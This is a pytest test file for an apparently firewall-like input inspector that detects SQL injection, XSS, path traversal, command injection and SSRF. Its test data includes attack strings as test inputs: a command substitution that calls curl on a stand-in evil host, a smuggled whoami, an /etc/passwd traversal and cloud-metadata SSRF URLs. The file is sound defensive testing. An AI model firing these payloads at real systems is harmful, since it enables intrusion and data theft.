from __future__ import annotations

import importlib.util
import sys
from pathlib import Path

import pytest

from bastion.stages.input.config import CATEGORIES
from bastion.stages.input.inspection import Inspector, decoded_forms, load_rules, ssrf_target

ROOT = Path(__file__).resolve().parents[3]


def _bench():
    spec = importlib.util.spec_from_file_location("inspection_corpus", ROOT / "bench" / "inspection_corpus.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up while the class is created
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def pl1() -> Inspector:
    return Inspector(load_rules(), 1, set(CATEGORIES))


def test_every_rule_compiles_and_is_well_formed() -> None:
    rules = load_rules()
    assert len({r.id for r in rules.rules}) == len(rules.rules)
    for rule in rules.rules:
        assert rule.category in CATEGORIES and 1 <= rule.paranoia <= 4 and rule.score in (2, 3, 4, 5)
    assert {r.category for r in rules.rules} == set(CATEGORIES) - {"ssrf"}


@pytest.mark.parametrize(("value", "expected"), [
    ("%253Cscript%253E", "<script>"),
    ("&lt;img&gt;", "<img>"),
    ("\\x3cb\\u003e", "<b>"),
    ("%u003Cs%u003E", "<s>"),
    ("\uff1cscript\uff1e", "<script>"),
    ("1/**/union/*!50000select*/", "1  union select "),
    ("'+or+1", "' or 1"),
    ("a\x00b", "ab"),
    ("/./././etc", "/etc"),
    ("; w'h'o'am'i", "; whoami"),
])
def test_decoded_forms(value: str, expected: str) -> None:
    assert expected in decoded_forms(value)


@pytest.mark.parametrize(("value", "category"), [
    ("' OR '1'='1", "sqli"),
    ("1 UNION/**/SELECT password FROM users", "sqli"),
    ("<svg/onload=alert(1)>", "xss"),
    ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss"),
    ("..%2f..%2f..%2fetc%2fpasswd", "traversal"),
    ("$(curl http://evil.example/x)", "cmdi"),
    ("http://[::ffff:169.254.169.254]/", "ssrf"),
])
def test_attacks_are_found_with_their_category(pl1: Inspector, value: str, category: str) -> None:
    finding = pl1.inspect(value)
    assert finding is not None and finding.category == category and finding.score >= 5


@pytest.mark.parametrize("value", ["O'Brien", "SELECT the best option", "[docs](../guide.md)",
                                   "https://example.com/a?b=c", "Tom & Jerry; Spike", "", "x" * 10_000])
def test_benign_values_pass(pl1: Inspector, value: str) -> None:
    assert pl1.inspect(value) is None


@pytest.mark.parametrize(("value", "paranoia", "found"), [
    ("http://127.0.0.1/", 1, True),
    ("http://2130706433/", 1, True),
    ("http://0x7f.1/", 1, True),
    ("http://good.example@10.0.0.1/", 1, True),
    ("http://metadata.google.internal/", 1, True),
    ("http://10.0.0.1.nip.io/", 1, True),
    ("gopher://example.com/_x", 1, True),
    ("http://8.8.8.8/", 1, False),
    ("https://example.com/10.0.0.1", 1, False),
    ("server at 10.0.0.1/admin", 1, False),
    ("server at 10.0.0.1/admin", 2, True),
    ("http://db.internal/", 1, False),
    ("http://db.internal/", 2, True),
])
def test_ssrf_targets(value: str, paranoia: int, found: bool) -> None:
    assert (ssrf_target(value, load_rules().ssrf, paranoia) is not None) is found


def test_categories_and_threshold_are_honoured() -> None:
    rules = load_rules()
    only_xss = Inspector(rules, 1, {"xss"})
    assert only_xss.inspect("' OR 1=1--") is None and only_xss.inspect("<script>") is not None
    lenient = Inspector(rules, 1, set(CATEGORIES), threshold=100)
    assert lenient.inspect("<script>alert(1)</script>") is None


def test_higher_paranoia_adds_rules() -> None:
    rules = load_rules()
    counts = [len(Inspector(rules, level, set(CATEGORIES)).rules) for level in (1, 2, 3, 4)]
    assert counts == sorted(counts) and counts[0] < counts[3]
    assert Inspector(rules, 1, set(CATEGORIES)).inspect("<b>bold</b>") is None
    assert Inspector(rules, 3, set(CATEGORIES)).inspect("<b>bold</b>") is not None


def test_corpus_targets_hold_at_the_default_level() -> None:
    """Issue 6 target at paranoia 1: >= 90% detection and <= 1% false positives, per category."""
    bench = _bench()
    for rates in bench.evaluate(1):
        assert rates.attacks >= 60, rates.category
        assert rates.detection >= 0.90, (rates.category, rates.missed)
        assert rates.fp_rate <= 0.01, (rates.category, rates.flagged)
    for rates in bench.evaluate_holdout(1):  # never used for tuning: a guard against overfitting the rules
        assert rates.detection >= 0.85, (rates.category, rates.missed)
        assert rates.false_positives == 0, rates.flagged
